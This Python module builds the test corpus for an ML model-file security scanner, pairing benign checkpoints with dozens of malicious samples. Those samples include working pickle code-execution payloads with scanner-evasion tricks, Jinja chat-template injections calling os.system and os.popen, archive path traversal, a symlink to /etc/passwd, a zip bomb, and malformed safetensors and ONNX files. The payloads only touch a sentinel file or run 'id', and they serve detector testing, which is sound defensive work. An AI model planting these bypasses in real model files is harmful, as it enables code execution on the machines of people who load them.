"""The detection corpus the tests (and bench/model_scan.py) run: >= 40 malicious samples, each trick in
several containers and extensions, and >= 10 benign ones built with the real libraries."""

from __future__ import annotations

import io
import json
import marshal
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from . import pickle_asm as a

Sample = tuple[str, Path]


def _cmd(sentinel: Path) -> str:
    return f"touch {sentinel}"


def pickle_tricks(sentinel: Path) -> dict[str, bytes]:
    """Raw pickle payloads, one per trick; every one would create `sentinel` when unpickled."""
    cmd = _cmd(sentinel)
    py = f"open({str(sentinel)!r}, 'w').close()"
    inner = a.call("os", "system", cmd)
    return {
        "reduce_os_system": a.proto(2)
        + a.glob("posix", "system")
        + a.sbu(cmd)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        "proto0_subprocess": a.glob("subprocess", "getoutput")
        + a.MARK
        + a.string0(cmd)
        + a.TUPLE
        + a.REDUCE
        + a.STOP,
        "stack_global_eval": a.call("builtins", "eval", f"__import__('os').system({cmd!r})"),
        "stack_global_exec": a.call("builtins", "exec", f"import os; os.system({cmd!r})"),
        # names pushed once, memoised, fetched back with BINGET into STACK_GLOBAL
        "memo_names": a.proto(4)
        + a.sbu("os")
        + a.binput(0)
        + a.sbu("system")
        + a.binput(1)
        + a.POP
        + a.POP
        + a.binget(0)
        + a.binget(1)
        + a.STACK_GLOBAL
        + a.sbu(cmd)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        "long_memo_names": a.proto(4)
        + a.sbu("subprocess")
        + a.long_binput(70000)
        + a.sbu("getoutput")
        + a.long_binput(70001)
        + a.POP
        + a.POP
        + a.long_binget(70000)
        + a.long_binget(70001)
        + a.STACK_GLOBAL
        + a.sbu(cmd)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        # protocol-0 STRING / UNICODE operands feeding STACK_GLOBAL
        "string_ops_stack_global": a.proto(4)
        + a.string0("os")
        + a.unicode0("system")
        + a.STACK_GLOBAL
        + a.unicode0(cmd)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        "inst_opcode": a.MARK + a.string0(cmd) + a.inst("os", "system") + a.STOP,
        "obj_pty_spawn": a.MARK + a.glob("pty", "spawn") + a.string0("id") + a.OBJ + a.STOP,
        "runpy_run_path": a.call("runpy", "run_path", "/tmp/does-not-exist.py", p=5),
        "cprofile_run": a.call("cProfile", "run", py, p=5),
        "getattr_importlib": a.proto(5)
        + a.sbu("builtins")
        + a.sbu("getattr")
        + a.STACK_GLOBAL
        + a.sbu("importlib")
        + a.sbu("import_module")
        + a.STACK_GLOBAL
        + a.sbu("os")
        + a.TUPLE1
        + a.REDUCE
        + a.sbu("system")
        + a.TUPLE2
        + a.REDUCE
        + a.sbu(cmd)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        "code_interactive": a.proto(5)
        + a.sbu("builtins")
        + a.sbu("getattr")
        + a.STACK_GLOBAL
        + a.sbu("code")
        + a.sbu("InteractiveInterpreter")
        + a.STACK_GLOBAL
        + a.EMPTY_TUPLE
        + a.REDUCE
        + a.sbu("runsource")
        + a.TUPLE2
        + a.REDUCE
        + a.sbu(f"import os; os.system({cmd!r})")
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        "ctypes_cdll": a.call("ctypes", "CDLL", "libc.so.6", p=5),
        "pydoc_locate": a.glob("pydoc", "locate")
        + a.string0("os.system")
        + a.TUPLE1
        + a.REDUCE
        + a.string0(cmd)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        "multiprocessing_spawn": a.call("multiprocessing.util", "spawnv_passfds", "/bin/sh", p=5),
        "marshal_function": a.proto(4)
        + a.sbu("marshal")
        + a.sbu("loads")
        + a.STACK_GLOBAL
        + a.sbbytes(marshal.dumps(compile(py, "<payload>", "exec")))
        + a.TUPLE1
        + a.REDUCE
        + a.MEMOIZE
        + a.sbu("types")
        + a.sbu("FunctionType")
        + a.STACK_GLOBAL
        + a.binget(0)
        + a.EMPTY_DICT
        + a.TUPLE2
        + a.REDUCE
        + a.EMPTY_TUPLE
        + a.REDUCE
        + a.STOP,
        "pip_main": a.proto(4)
        + a.sbu("pip")
        + a.sbu("main")
        + a.STACK_GLOBAL
        + a.MARK
        + a.sbu("install")
        + a.sbu("--no-index")
        + a.sbu("evil")
        + a.LIST
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        "nested_pickle_loads": a.proto(4)
        + a.sbu("pickle")
        + a.sbu("loads")
        + a.STACK_GLOBAL
        + a.sbbytes(inner)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        # nested pickle as a bytes value next to an allowlisted call
        "nested_pickle_bytes": a.proto(4)
        + a.sbu("collections")
        + a.sbu("OrderedDict")
        + a.STACK_GLOBAL
        + a.EMPTY_TUPLE
        + a.REDUCE
        + a.sbbytes(inner)
        + a.POP
        + a.STOP,
        "numpy_runstring": a.call(
            "numpy.testing._private.utils", "runstring", f"import os; os.system({cmd!r})", p=4
        ),
        "operator_attrgetter": a.call("operator", "attrgetter", "system"),
        "functools_partial": a.proto(4)
        + a.sbu("functools")
        + a.sbu("partial")
        + a.STACK_GLOBAL
        + a.sbu("os")
        + a.sbu("system")
        + a.STACK_GLOBAL
        + a.sbu(cmd)
        + a.TUPLE2
        + a.REDUCE
        + a.EMPTY_TUPLE
        + a.REDUCE
        + a.STOP,
        # submodule of a banned package (picklescan checked the exact module name only)
        "asyncio_submodule": a.call("asyncio.unix_events", "_UnixSubprocessTransport", "x"),
        # attribute chain through an allowlisted-looking module: torch.serialization -> os -> system
        "attr_chain_torch_os": a.call("torch.serialization", "os.system", cmd),
        "py2_builtin_alias": a.glob("__builtin__", "eval")
        + a.string0(f"__import__('os').system({cmd!r})")
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        # not on any denylist, still not a model-loading callable: the allowlist catches it
        "unlisted_logging_listen": a.call("logging.config", "listen", "9999"),
        "ext_registry": a.proto(2) + b"\x82\x01" + a.sbu(cmd) + a.TUPLE1 + a.REDUCE + a.STOP,
        # payload, then garbage: the loader runs the payload before failing
        "truncated_after_payload": a.proto(2) + a.glob("os", "system") + a.sbu(cmd) + a.TUPLE1 + a.REDUCE,
        # a harmless first pickle, the payload in a second one (readers that stop at the first STOP miss it)
        "second_stream": a.proto(2) + a.EMPTY_DICT + a.STOP + inner,
        "webbrowser_open": a.call("webbrowser", "open", "http://127.0.0.1/"),
        # modelscan#85: BUILD sets attributes on an allowed function, GLOBAL reads them back, STACK_GLOBAL
        # gets non-string operands that name os.system at load time
        "build_setattr_stack_global": a.proto(5)
        + a.glob("numpy", "prod")
        + b"N"
        + a.MARK
        + a.unicode0("a")
        + a.unicode0("os")
        + b"d"
        + a.TUPLE2
        + a.BUILD
        + b"N"
        + a.MARK
        + a.unicode0("b")
        + a.unicode0("system")
        + b"d"
        + a.TUPLE2
        + a.BUILD
        + a.POP
        + a.glob("numpy", "prod.a")
        + b"p0\n"
        + a.glob("numpy", "prod.b")
        + b"p1\n"
        + a.POP
        + a.POP
        + b"g0\n"
        + b"g1\n"
        + a.STACK_GLOBAL
        + a.unicode0(cmd)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        # modelscan#330: module.__builtins__ from an allowed module, then eval through it
        "module_builtins_dunder": a.proto(4)
        + a.sbu("numpy")
        + a.sbu("size")
        + a.STACK_GLOBAL
        + a.MEMOIZE
        + a.MEMOIZE
        + a.sbu("numpy")
        + a.sbu("__builtins__")
        + a.STACK_GLOBAL
        + a.MEMOIZE
        + a.MEMOIZE
        + a.binget(1)
        + a.EMPTY_DICT
        + a.EMPTY_DICT
        + a.sbu("shape")
        + a.binget(3)
        + a.SETITEM
        + a.TUPLE2
        + a.BUILD
        + a.binget(1)
        + a.binget(1)
        + a.sbu("eval")
        + a.TUPLE2
        + a.REDUCE
        + a.sbu(cmd)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
        # picklescan#14: BINPUT and MEMOIZE mixed so a naive memo model sees torch names where os.system sits
        "memo_confusion": a.proto(4)
        + a.sbu("os")
        + a.binput(0)
        + a.sbu("system")
        + a.binput(1)
        + a.sbu("torch._utils")
        + a.MEMOIZE
        + a.sbu("_rebuild_tensor_v2")
        + a.MEMOIZE
        + a.POP
        + a.POP
        + a.POP
        + a.POP
        + a.binget(0)
        + a.binget(1)
        + a.STACK_GLOBAL
        + a.sbu(cmd)
        + a.TUPLE1
        + a.REDUCE
        + a.STOP,
    }


def _torch_zip(payload: bytes, prefix: str = "archive", extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{prefix}/data.pkl", payload)
        zf.writestr(f"{prefix}/version", "3\n")
        zf.writestr(f"{prefix}/data/0", b"\x80\x02" + b"\x00" * 62)  # storage bytes that look like a pickle
        for k, v in (extra or {}).items():
            zf.writestr(k, v)
    return buf.getvalue()


def _legacy_torch(payload: bytes) -> bytes:
    import pickle as stdlib_pickle  # dumps only: builds the benign header pickles

    magic = stdlib_pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    head = (
        magic
        + stdlib_pickle.dumps(1001, protocol=2)
        + stdlib_pickle.dumps({"little_endian": True}, protocol=2)
    )
    return head + payload + stdlib_pickle.dumps([], protocol=2)


def _npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for k, v in members.items():
            zf.writestr(k, v)
    return buf.getvalue()


def _corrupt_crc(data: bytes) -> bytes:
    """Flip the CRC-32 in both headers of the first member (torch ignores it, strict readers refuse)."""
    raw = bytearray(data)
    raw[14:18] = b"\xde\xad\xbe\xef"
    cd = raw.rfind(b"PK\x01\x02")
    first_cd = raw.find(b"PK\x01\x02")
    for pos in {cd, first_cd}:
        raw[pos + 16 : pos + 20] = b"\xde\xad\xbe\xef"
    return bytes(raw)


def _rename_local(data: bytes, new: bytes) -> bytes:
    """Local header name differs from the central directory name (same length)."""
    raw = bytearray(data)
    n = struct.unpack("<H", raw[26:28])[0]
    assert len(new) == n
    raw[30 : 30 + n] = new
    return bytes(raw)


def _flag_encrypted(data: bytes) -> bytes:
    raw = bytearray(data)
    raw[6] |= 1
    first_cd = raw.find(b"PK\x01\x02")
    raw[first_cd + 8] |= 1
    return bytes(raw)


def _tar(members: dict[str, bytes], mode: str = "w:gz", links: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:
        for k, v in members.items():
            info = tarfile.TarInfo(k)
            info.size = len(v)
            tf.addfile(info, io.BytesIO(v))
        for k, target in (links or {}).items():
            info = tarfile.TarInfo(k)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tf.addfile(info)
    return buf.getvalue()


def _safetensors(header: dict | bytes, data: bytes, length: int | None = None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def _gguf(path: Path, template: str | None, extra: Callable | None = None) -> None:
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(path), "llama")
    if template is not None:
        w.add_string("tokenizer.chat_template", template)
    w.add_tensor("w", np.zeros((4, 4), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def _keras(layers: list[dict]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": layers}}
    return _zip(
        {
            "metadata.json": json.dumps({"keras_version": "3.5.0"}).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": _h5_bytes(),
        }
    )


def _h5_bytes() -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_dataset("layers/dense/vars/0", data=[[1.0, 2.0]])
    return buf.getvalue()


LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "l",
        "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None}},
    },
}
DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 4}}
SMOL_TEMPLATE = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\nYou are a helpful AI assistant named SmolLM.<|im_end|>\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)


def _h5(path: Path, layers: list[dict]) -> None:
    import h5py

    config = {"class_name": "Sequential", "config": {"name": "m", "layers": layers}}
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
        f.create_group("model_weights")


def _onnx(path: Path, location: str | None = None, domain: str = "") -> None:
    import onnx
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])
    w = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    if location is not None:
        w.ClearField("float_data")
        w.data_location = TensorProto.EXTERNAL
        e = w.external_data.add()
        e.key, e.value = "location", location
    node = helper.make_node("Add" if not domain else "EvilOp", ["x", "w"], ["y"], domain=domain)
    graph = helper.make_graph([node], "g", [x], [y], [w])
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    onnx.save(helper.make_model(graph, opset_imports=opsets), str(path))


def _hf_folder(
    root: Path,
    *,
    config: dict | None = None,
    tok: dict | None = None,
    readme: str | None = None,
    files: dict[str, bytes] | None = None,
) -> Path:
    import numpy as np
    from safetensors.numpy import save_file

    root.mkdir(parents=True, exist_ok=True)
    save_file({"w": np.ones((2, 2), dtype=np.float32)}, str(root / "model.safetensors"))
    (root / "config.json").write_text(json.dumps(config or {"model_type": "llama", "hidden_size": 2}))
    (root / "tokenizer_config.json").write_text(json.dumps(tok or {"chat_template": SMOL_TEMPLATE}))
    if readme is None:
        readme = (
            "---\nlicense: apache-2.0\nbase_model: HuggingFaceTB/SmolLM2-135M\n"
            "datasets:\n- tatsu-lab/alpaca\n"
            "---\n# Model\n\n## Intended uses\n\nResearch on safe fine-tuning.\n"
        )
    if readme:
        (root / "README.md").write_text(readme)
    for k, v in (files or {}).items():
        (root / k).write_bytes(v)
    return root


def build_malicious(d: Path, sentinel: Path) -> list[Sample]:  # noqa: C901
    d.mkdir(parents=True, exist_ok=True)
    tricks = pickle_tricks(sentinel)
    out: list[Sample] = []

    def put(name: str, data: bytes) -> None:
        (d / name).write_bytes(data)
        out.append((name, d / name))

    exts = [".pkl", ".pickle", ".bin", ".pt", ".pth", ".ckpt", ".joblib", ".model.txt", ""]
    for i, (trick, payload) in enumerate(tricks.items()):
        put(f"{trick}{exts[i % len(exts)]}", payload)
    os_system = tricks["reduce_os_system"]
    # the same payloads inside the containers a loader would open
    put("torchzip_std.pt", _torch_zip(tricks["stack_global_eval"]))
    put("torchzip_odd_prefix.bin", _torch_zip(tricks["memo_names"], prefix="weights_v2"))
    put("torchzip_as_safetensors_ext.safetensors", _torch_zip(os_system))
    put(
        "torchzip_extra_member.pth",
        _torch_zip(b"\x80\x02}q\x00.", extra={"archive/extra.pkl": tricks["pip_main"]}),
    )
    put("torch_legacy.pt", _legacy_torch(tricks["getattr_importlib"]))
    put("npy_object.npy", _npy_object(tricks["functools_partial"]))
    put("npy_object_odd_ext.dat", _npy_object(os_system))
    put("npz_object.npz", _zip({"arr_0.npy": _npy_object(tricks["numpy_runstring"])}))
    put("zip_bad_crc.pt", _corrupt_crc(_torch_zip(os_system)))
    put("zip_name_mismatch.pt", _rename_local(_torch_zip(os_system), b"archive/data.pkx"))
    put("zip_encrypted_flag.pt", _flag_encrypted(_torch_zip(os_system)))
    put("tar_with_pickle.tar.gz", _tar({"model/pytorch_model.bin": os_system}))
    put("tar_nested_zip.tar", _tar({"m/model.pt": _torch_zip(tricks["attr_chain_torch_os"])}, mode="w"))
    put("zip_nested_tar.zip", _zip({"inner.tar.gz": _tar({"x.pkl": tricks["inst_opcode"]})}))
    put("zip_traversal.zip", _zip({"../../evil.txt": b"x"}))
    put("tar_symlink.tar", _tar({"ok.txt": b"x"}, mode="w", links={"link": "/etc/passwd"}))
    put("tar_traversal.tgz", _tar({"../escape.bin": b"x"}))
    put("zip_bomb.zip", _zip({"zeros.bin": b"\x00" * (24 << 20)}))
    # safetensors header attacks
    good = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    put("st_len_beyond_file.safetensors", _safetensors(good, b"\x00" * 8, length=4096))
    put("st_len_absurd.safetensors", _safetensors(good, b"\x00" * 8, length=1 << 40))
    put("st_bad_json.safetensors", _safetensors(b'{"a": {"dtype": "F32",', b"\x00" * 8))
    put(
        "st_bad_dtype.safetensors",
        _safetensors({"a": {"dtype": "PY_OBJ", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8),
    )
    put(
        "st_out_of_range.safetensors",
        _safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, b"\x00" * 8),
    )
    put(
        "st_overlap.safetensors",
        _safetensors(
            {
                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
            },
            b"\x00" * 12,
        ),
    )
    put(
        "st_size_mismatch.safetensors",
        _safetensors({"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}, b"\x00" * 8),
    )
    put("st_trailing_payload.safetensors", _safetensors(good, b"\x00" * 8 + os_system))
    put(
        "st_duplicate_names.safetensors",
        _safetensors(
            b'{"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, '
            b'"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}',
            b"\x00" * 8,
        ),
    )
    # GGUF chat templates
    for name, tpl in {
        "gguf_cycler_globals.gguf": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "gguf_attr_filter.gguf": "{{ ''|attr('__class__')|attr('__mro__') }}",
        "gguf_joiner_subscript.gguf": "{{ joiner['__init__']['__globals__'] }}",
        "gguf_namespace_private.gguf": "{% set ns = namespace() %}{{ ns._Namespace__attrs }}",
        "gguf_dynamic_attr.gguf": "{% set n = '_' * 2 + 'class' + '_' * 2 %}{{ messages|attr(n) }}",
        "gguf_lipsum_globals.gguf": "{{ lipsum.__globals__['os'].system('id') }}",
    }.items():
        _gguf(d / name, tpl)
        out.append((name, d / name))
    put("gguf_truncated.gguf", b"GGUF\x03\x00\x00\x00" + b"\xff" * 16)
    # Hugging Face folders
    out.append(
        (
            "hf_auto_map",
            _hf_folder(
                d / "hf_auto_map",
                config={
                    "model_type": "evil",
                    "auto_map": {"AutoModelForCausalLM": "modeling_evil.EvilModel"},
                },
                files={"modeling_evil.py": f"import os\nos.system({_cmd(sentinel)!r})\n".encode()},
            ),
        )
    )
    out.append(
        (
            "hf_template_injection",
            _hf_folder(
                d / "hf_template_injection",
                tok={
                    "chat_template": "{{ self._TemplateReference__context.cycler.__init__"
                    ".__globals__.os.system('id') }}"
                },
            ),
        )
    )
    out.append(
        (
            "hf_template_list",
            _hf_folder(
                d / "hf_template_list",
                tok={
                    "chat_template": [
                        {"name": "default", "template": SMOL_TEMPLATE},
                        {"name": "tool_use", "template": "{{ ().__class__.__base__.__subclasses__() }}"},
                    ]
                },
            ),
        )
    )
    out.append(
        ("hf_denied_license", _hf_folder(d / "hf_denied_license", readme="---\nlicense: cc-by-nc-4.0\n---\n"))
    )
    out.append(
        (
            "hf_pickle_weights",
            _hf_folder(
                d / "hf_pickle_weights",
                files={
                    "pytorch_model.bin": _torch_zip(os_system),
                    "training_args.bin": tricks["reduce_os_system"],
                },
            ),
        )
    )
    # Keras / ONNX
    put("keras_lambda.keras", _keras([DENSE, LAMBDA]))
    _h5(d / "keras_lambda.h5", [DENSE, LAMBDA])
    out.append(("keras_lambda.h5", d / "keras_lambda.h5"))
    put(
        "keras_custom_object.keras",
        _keras([{"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {}}]),
    )
    (d / "onnx_ext").mkdir()
    _onnx(d / "onnx_ext" / "model.onnx", location="../../../etc/passwd")
    out.append(("onnx_external_escape", d / "onnx_ext"))
    _onnx(d / "onnx_custom_op.onnx", domain="com.evil.ops")
    out.append(("onnx_custom_op.onnx", d / "onnx_custom_op.onnx"))
    return out


def build_benign(d: Path, embedded_gguf: Path | None = None) -> list[Sample]:
    import pickle as stdlib_pickle  # dumps only

    import numpy as np
    import torch
    from safetensors.numpy import save_file as np_save_file
    from safetensors.torch import save_file

    d.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []

    def add(name: str) -> None:
        out.append((name, d / name))

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    torch.save(model.state_dict(), d / "state_dict.pt")
    add("state_dict.pt")
    opt = torch.optim.AdamW(model.parameters())
    model(torch.randn(3, 4)).sum().backward()
    opt.step()
    torch.save(
        {
            "model": model.state_dict(),
            "optimizer": opt.state_dict(),
            "epoch": 3,
            "lr": 1e-4,
            "history": [0.5, 0.4],
            "name": "run-1",
        },
        d / "checkpoint.ckpt",
    )
    add("checkpoint.ckpt")
    torch.save(model.state_dict(), d / "legacy_state_dict.pth", _use_new_zipfile_serialization=False)
    add("legacy_state_dict.pth")
    torch.save({"w": torch.randn(3, dtype=torch.bfloat16), "i": torch.arange(4)}, d / "pytorch_model.bin")
    add("pytorch_model.bin")
    np.save(d / "array.npy", np.arange(12, dtype=np.float32).reshape(3, 4))
    add("array.npy")
    np.savez(d / "arrays.npz", a=np.ones(3), b=np.zeros((2, 2), dtype=np.int64))
    add("arrays.npz")
    (d / "ndarray.pkl").write_bytes(stdlib_pickle.dumps({"w": np.ones((2, 3))}, protocol=2))
    add("ndarray.pkl")
    (d / "ndarray_p5.pkl").write_bytes(stdlib_pickle.dumps(np.ones(5), protocol=5))
    add("ndarray_p5.pkl")
    save_file(
        {"w": torch.randn(4, 4), "b": torch.zeros(4, dtype=torch.float16)},
        str(d / "model.safetensors"),
        metadata={"format": "pt"},
    )
    add("model.safetensors")
    np_save_file({"x": np.arange(6, dtype=np.int8)}, str(d / "np.safetensors"))
    add("np.safetensors")
    _hf_folder(d / "hf_folder")
    add("hf_folder")
    (d / "archive").mkdir()
    (d / "archive" / "model.tar.gz").write_bytes(
        _tar({"m/model.safetensors": (d / "model.safetensors").read_bytes(), "m/config.json": b"{}"})
    )
    add("archive/model.tar.gz")
    put_keras = d / "dense.keras"
    put_keras.write_bytes(_keras([DENSE]))
    add("dense.keras")
    _onnx(d / "add.onnx")
    add("add.onnx")
    _gguf(d / "small.gguf", SMOL_TEMPLATE)
    add("small.gguf")
    if embedded_gguf is not None:
        out.append(("embedded.gguf", embedded_gguf))
    return out


# The check each malicious sample must raise (besides failing the gate): proves it fails for the right reason.
EXPECTED_CHECK = {
    "unlisted_logging_listen": "model.pickle.unallowed_global",
    "ext_registry": "model.pickle.unresolved_import",
    "build_setattr_stack_global": "model.pickle.unresolved_import",
    "nested_pickle_bytes": "model.pickle.nested_pickle",
    "truncated_after_payload": "model.pickle.malformed",
    "zip_bad_crc.pt": "model.zip.evasive_header",
    "zip_name_mismatch.pt": "model.zip.evasive_header",
    "zip_encrypted_flag.pt": "model.zip.evasive_header",
    "zip_traversal.zip": "model.archive.path_traversal",
    "tar_symlink.tar": "model.archive.symlink",
    "tar_traversal.tgz": "model.archive.path_traversal",
    "zip_bomb.zip": "model.archive.bomb",
    "st_len_beyond_file.safetensors": "model.safetensors.header_beyond_file",
    "st_len_absurd.safetensors": "model.safetensors.header_too_large",
    "st_bad_json.safetensors": "model.safetensors.invalid_json",
    "st_bad_dtype.safetensors": "model.safetensors.unknown_dtype",
    "st_out_of_range.safetensors": "model.safetensors.offset_out_of_range",
    "st_overlap.safetensors": "model.safetensors.overlap",
    "st_size_mismatch.safetensors": "model.safetensors.size_mismatch",
    "st_trailing_payload.safetensors": "model.safetensors.trailing_bytes",
    "st_duplicate_names.safetensors": "model.safetensors.invalid_json",
    "gguf_namespace_private.gguf": "model.template.private_access",
    "gguf_dynamic_attr.gguf": "model.template.dynamic_attr",
    "gguf_truncated.gguf": "model.gguf.absurd_counts",
    "hf_auto_map": "model.hf.auto_map",
    "hf_denied_license": "model.license.denied",
    "keras_lambda.keras": "model.keras.lambda_layer",
    "keras_lambda.h5": "model.keras.lambda_layer",
    "keras_custom_object.keras": "model.keras.custom_object",
    "onnx_external_escape": "model.onnx.external_data_escape",
    "onnx_custom_op.onnx": "model.onnx.custom_op_domain",
}


def expected_check(name: str) -> str:
    """Default: the sample's payload is a dangerous pickle import or a template dunder access."""
    key = name if name in EXPECTED_CHECK else name.split(".")[0]
    if key in EXPECTED_CHECK:
        return EXPECTED_CHECK[key]
    if name.startswith(("gguf_", "hf_template")):
        return "model.template.dunder_access"
    return "model.pickle.dangerous_global"
